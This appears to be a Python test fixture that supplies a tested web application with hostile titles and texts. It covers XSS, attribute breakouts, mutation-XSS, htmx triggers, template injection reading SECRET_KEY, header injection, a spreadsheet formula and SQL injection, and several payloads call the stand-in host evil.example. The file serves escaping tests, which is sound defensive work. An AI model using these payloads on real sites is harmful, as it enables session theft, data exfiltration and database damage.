"""Texts that want to be more than text. `MARK` stands in each, so that it is found again wherever it comes out.

Sources: OWASP XSS filter evasion cheat sheet, PortSwigger's cheat sheet, the advisories of Decidim and
FixMyStreet, htmx's own notes on security; written down in our own words and shortened to fit a title.
Each tries to set `window.__pwned`, to open a dialog, or to ask a foreign host.
"""

from __future__ import annotations

from itertools import count

MARK = "zqj"
ALERT = "__pwned=1"
FOREIGN = "//evil.example"

PAYLOADS: tuple[str, ...] = (
    # elements that run by themselves
    f"<script>{ALERT}</script>{MARK}",
    f"</title><script>{ALERT}</script>{MARK}",
    f"</textarea><script>{ALERT}</script>{MARK}",
    f"</option></select><script>{ALERT}</script>{MARK}",
    f"--><script>{ALERT}</script>{MARK}",
    f"]]><script>{ALERT}</script>{MARK}",
    f"<scr<script>ipt>{ALERT}</script>{MARK}",
    f"<ScRiPt\t/x>{ALERT}</sCrIpT >{MARK}",
    f"<script src={FOREIGN}/x.js></script>{MARK}",
    f"<script type=module>{ALERT}</script>{MARK}",
    # elements with an event
    f"<img src=x onerror={ALERT}>{MARK}",
    f"<img/src=x/onerror={ALERT}>{MARK}",
    f'"><img src=x onerror={ALERT}>{MARK}',
    f"'><img src=x onerror={ALERT}>{MARK}",
    f"<body onload={ALERT}>{MARK}",
    f"<input autofocus onfocus={ALERT}>{MARK}",
    f"<details open ontoggle={ALERT}>{MARK}",
    f"<video><source onerror={ALERT}>{MARK}",
    f"<audio src=x onerror={ALERT}>{MARK}",
    f"<marquee onstart={ALERT}>{MARK}",
    f"<p onmouseover={ALERT} style=position:fixed;inset:0>{MARK}",
    f"<iframe onload={ALERT}></iframe>{MARK}",
    f"<object data=x onerror={ALERT}></object>{MARK}",
    f"<button popovertarget=x onclick={ALERT}>{MARK}",
    f"<dialog open onclose={ALERT}><form method=dialog>{MARK}",
    # out of an attribute
    f'" onmouseover="{ALERT}" x="{MARK}',
    f"' onfocus='{ALERT}' autofocus x='{MARK}",
    f"` onload=`{ALERT}` {MARK}",
    f'" autofocus onfocus={ALERT} {MARK}',
    f'"/><svg/onload={ALERT}>{MARK}',
    # SVG and MathML
    f"<svg onload={ALERT}>{MARK}",
    f"<svg><script>{ALERT}</script></svg>{MARK}",
    f"<svg><a href=javascript:{ALERT}><text y=9>{MARK}</a>",
    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>{MARK}",
    f"<svg><use href=data:image/svg+xml,x#x>{MARK}",
    f"<svg><style><img src=x onerror={ALERT}></style>{MARK}",
    f"<math><mi xlink:href=javascript:{ALERT}>{MARK}",
    # addresses
    f"[{MARK}](javascript:{ALERT})",
    f"[{MARK}](JaVaScRiPt:{ALERT})",
    f"[{MARK}](java\tscript:{ALERT})",
    f"[{MARK}](&#106;avascript:{ALERT})",
    f"[{MARK}](data:text/html,<script>{ALERT}</script>)",
    f"[{MARK}](vbscript:{ALERT})",
    f'[{MARK}](http://x" onclick="{ALERT})',
    f"![{MARK}]({FOREIGN}/x.png)",
    f'![{MARK}](x"onerror="{ALERT})',
    f"<javascript:{ALERT}> {MARK}",
    f"[{MARK}]: javascript:{ALERT}\n\n[{MARK}]",
    f"<a href=javascript:{ALERT}>{MARK}</a>",
    f"javascript:{ALERT}//{MARK}",
    f"<form action={FOREIGN}><button>{MARK}",
    f"<base href={FOREIGN}/>{MARK}",
    f"<meta http-equiv=refresh content=0;url={FOREIGN}>{MARK}",
    f"<link rel=stylesheet href={FOREIGN}/x.css>{MARK}",
    # htmx: an attribute is an act with the reader's cookie
    f"<p hx-get=/my hx-trigger=load>{MARK}",
    f"<p data-hx-post=/sign-out data-hx-trigger=load>{MARK}",
    f"<p hx-on:load={ALERT}>{MARK}",
    f"<p hx-on--load={ALERT} data-hx-on:click={ALERT}>{MARK}",
    f'<p hx-vals="js:{{a:{ALERT}}}" hx-get=/ hx-trigger=load>{MARK}',
    f"<template hx-swap-oob=innerHTML:main>{MARK}</template>",
    f"<p hx-get={FOREIGN} hx-trigger=load>{MARK}",
    # templates of ours and of others
    f"{{{{7*7}}}}{MARK}",
    f"{{% for x in config %}}{{{{x}}}}{{% endfor %}}{MARK}",
    f"{{{{config.SECRET_KEY}}}}{MARK}",
    f"${{7*7}}#{{7*7}}<%=7*7%>{MARK}",
    f"{{{{constructor.constructor('{ALERT}')()}}}}{MARK}",
    f"%(name)s %(count)d {{0}} {{title}} {MARK}",
    # styles
    f"<style>@import'{FOREIGN}/x.css';</style>{MARK}",
    f"<p style=background:url({FOREIGN}/x)>{MARK}",
    f"</style><script>{ALERT}</script>{MARK}",
    # what a parser makes of it the second time
    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>{MARK}",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}>{MARK}",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ALERT}>{MARK}",
    f"<svg></p><style><a id='</style><img src=1 onerror={ALERT}>'>{MARK}",
    f"<xmp><p title='</xmp><img src=x onerror={ALERT}>'>{MARK}",
    f"&lt;img src=x onerror={ALERT}&gt;{MARK}",
    f"&#60;script&#62;{ALERT}&#60;/script&#62;{MARK}",
    f"%3Cscript%3E{ALERT}%3C/script%3E{MARK}",
    f"\\u003cscript\\u003e{ALERT}\\u003c/script\\u003e{MARK}",
    # letters that are not what they seem
    f"\u202e<script>{ALERT}</script>\u202c{MARK}",
    f"＜script＞{ALERT}＜/script＞{MARK}",
    f"<scr\u00adipt>{ALERT}</scr\u00adipt>{MARK}",
    f"<img src=x\u00a0onerror={ALERT}>{MARK}",
    f"\ufeff<script>{ALERT}</script>{MARK}",
    f"<\u200bscript>{ALERT}</script>{MARK}",
    f"<img src=x onerror\u0001={ALERT}>{MARK}",
    f"ʼ><img src=x onerror={ALERT}>{MARK}",
    # headers, spreadsheets, queries
    f"{MARK}\r\nBcc: victim@evil.example\r\n\r\n<script>{ALERT}</script>",
    f'=HYPERLINK("{FOREIGN}","{MARK}")',
    f"'; DROP TABLE proposal; -- {MARK}",
    f'" OR 1=1 -- {MARK}',
)


class Hostile:
    """Words for `tests.scenery.build_scene`: each text is the next payload that fits; long texts hold several."""

    def __init__(self) -> None:
        self._next = count()
        self.used: set[str] = set()

    def __call__(self, _kind: str, limit: int) -> str:
        """The next payload; where there is room, four of them as paragraphs."""
        wanted = 4 if limit >= 300 else 1
        parts: list[str] = []
        while len(parts) < wanted:
            payload = PAYLOADS[next(self._next) % len(PAYLOADS)]
            if len(payload) <= limit:
                parts.append(payload)
                self.used.add(payload)
        return "\n\n".join(parts)[:limit]


def one_title(kind: str, limit: int) -> str:
    """Ordinary words, and titles that run where they are not escaped: for tests of the tests."""
    return f"<img src=x onerror={ALERT}>{MARK}" if kind == "title" else f"Сөз ({kind})"[:limit]
